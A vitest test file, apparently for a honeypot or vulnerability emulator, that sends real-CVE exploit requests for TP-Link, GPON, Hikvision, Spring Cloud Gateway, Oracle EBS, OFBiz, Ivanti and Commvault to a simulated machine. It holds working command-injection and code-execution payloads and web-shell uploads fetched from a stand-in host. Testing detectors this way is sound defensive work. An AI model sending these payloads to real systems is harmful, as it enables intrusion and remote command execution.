/** Exploits whose first request stores what the next one runs or shows: routers, cameras, gateways of Spring, Oracle. */

import { expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', [
  'tplink-archer',
  'dasan-gpon',
  'hikvision',
  'spring-cloud-gateway',
  'oracle-ebs',
  'ofbiz',
  'ivanti-connect-secure',
  'commvault',
]);

it('TP-Link stores a country at first and runs it the second time (CVE-2023-1389)', () => {
  const visitor = stranger(machine);
  const path = '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)';
  expect(visitor.get(path).body).toBe('OK');
  expect(visitor.get(path).body).toMatch(id);
  expect(stranger(machine).get(path).body).toBe('OK');
});

it('a GPON router shows later what its diagnosis printed (CVE-2018-10562)', () => {
  const visitor = stranger(machine);
  visitor.form(
    '/GponForm/diag_Form?images/',
    'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`;&ipv=0',
  );
  expect(visitor.get('/diag.html?images/').body).toMatch(id);
  expect(stranger(machine).get('/diag.html?images/').body).not.toMatch(id);
});

it('a Hikvision camera gives out what a command wrote (CVE-2021-36260)', () => {
  const visitor = stranger(machine);
  visitor.send(
    'PUT',
    '/SDK/webLanguage',
    {},
    '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>',
  );
  expect(visitor.get('/x').body).toMatch(id);
  expect(stranger(machine).get('/x').body).not.toMatch(id);
});

it('Spring Cloud Gateway makes a route, refreshes and shows what its expression printed (CVE-2022-22947)', () => {
  const visitor = stranger(machine);
  const value = `#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()))}`;
  const filters = [{ name: 'AddResponseHeader', args: { name: 'Result', value } }];
  const route = '/actuator/gateway/routes/zxcv';
  const made = visitor.json(route, { id: 'zxcv', filters, uri: 'http://example.com' });
  expect(made.cves).toContain('CVE-2022-22947');
  expect(made.status).toBe(201);
  expect(visitor.send('POST', '/actuator/gateway/refresh').status).toBe(200);
  expect(visitor.get(route).body).toMatch(id);
  expect(stranger(machine).get(route).status).toBe(404);
});

it('Oracle E-Business Suite gives a token against forgery, and takes a return address (CVE-2025-61882)', () => {
  const visitor = stranger(machine);
  const front = visitor.get('/OA_HTML/runforms.jsp');
  expect(front.status).toBe(302);
  const session = { Cookie: `JSESSIONID=${cookieOf(front, 'JSESSIONID')}` };
  const fetched = visitor.send('POST', '/OA_HTML/JavaScriptServlet', {
    ...session,
    'CSRF-XHR': 'YES',
    'FETCH-CSRF-TOKEN': '1',
  });
  const token = /^OA_CSRF_TOKEN:(\w{64})$/.exec(fetched.body)?.[1] ?? '';
  const wanted = encodeURIComponent(
    '<?xml version="1.0"?><initialize><param name="init_was_saved">test</param><param name="return_url">http://apps.a.example:7201/x</param></initialize>',
  );
  const address = visitor.form('/OA_HTML/configurator/UiServlet', `redirectFromJsp=1&getUiType=${wanted}`, {
    ...session,
    'X-OA-CSRF': token,
  });
  expect(address.cves).toContain('CVE-2025-61882');
  expect(address.status).toBe(200);
});

it('OFBiz runs Groovy for whoever asks (CVE-2024-38856), and a page that it saved takes commands (CVE-2024-45195)', () => {
  const visitor = stranger(machine);
  const program = "groovyProgram=\\u0074hrow+new+Exception('id'.execute().text);";
  const ran = visitor.form('/webtools/control/main/ProgramExport', program);
  expect(ran.cves).toContain('CVE-2024-38856');
  expect(ran.body).toMatch(/java\.lang\.Exception: uid=\d+\(/);
  const saved = visitor.form(
    '/webtools/control/forgotPassword/viewdatafile',
    'DATAFILE_LOCATION=http://192.0.2.1/rce.csv&DATAFILE_SAVE=./applications/accounting/webapp/accounting/index.jsp&DATAFILE_IS_URL=true&DEFINITION_LOCATION=http://192.0.2.1/s.xml&DEFINITION_NAME=rce',
  );
  expect(saved.cves).toContain('CVE-2024-45195');
  expect(visitor.get('/accounting/index.jsp?cmd=id').body).toMatch(id);
  expect(stranger(machine).get('/accounting/index.jsp?cmd=id').body).not.toMatch(id);
});

it('Ivanti Connect Secure asks its own licence service what a signature names (CVE-2024-21893)', () => {
  const visitor = stranger(machine);
  const uri = 'http://127.0.0.1:8090/api/v1/license/keys-status/%3Btouch%20%2Ftmp%2Fics%3B';
  const body = `<?xml version="1.0"?><soap:Envelope><soap:Body><ds:Signature><ds:KeyInfo><ds:RetrievalMethod URI="${uri}"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>`;
  const sent = visitor.send('POST', '/dana-ws/saml20.ws', { 'Content-Type': 'text/xml' }, body);
  expect(sent.cves).toContain('CVE-2024-21893');
  expect(sent.facts).toContainEqual(expect.objectContaining({ kind: 'command', input: 'touch /tmp/ics' }));
  expect(visitor.get('/dana-na/auth/url_admin/welcome.cgi?type=inter').body).toMatch(
    /NAME="ProductVersion" VALUE="22\.\d/,
  );
});

it('Commvault deploys a package whose pages are then called (CVE-2025-34028)', () => {
  const visitor = stranger(machine);
  const sent = visitor.form(
    '/commandcenter/deployWebpackage.do',
    'commcellName=192.0.2.1:443&servicePack=../../Reports/MetricsUpload/shell/.t4711/dist-cc.zip&version=a',
  );
  expect(sent.cves).toContain('CVE-2025-34028');
  expect(visitor.get('/reports/MetricsUpload/shell/.t4711/dist-cc/s.jsp?cmd=id').body).toMatch(id);
  expect(visitor.get('/reports/MetricsUpload/shell/other/s.jsp?cmd=id').body).not.toMatch(id);
});
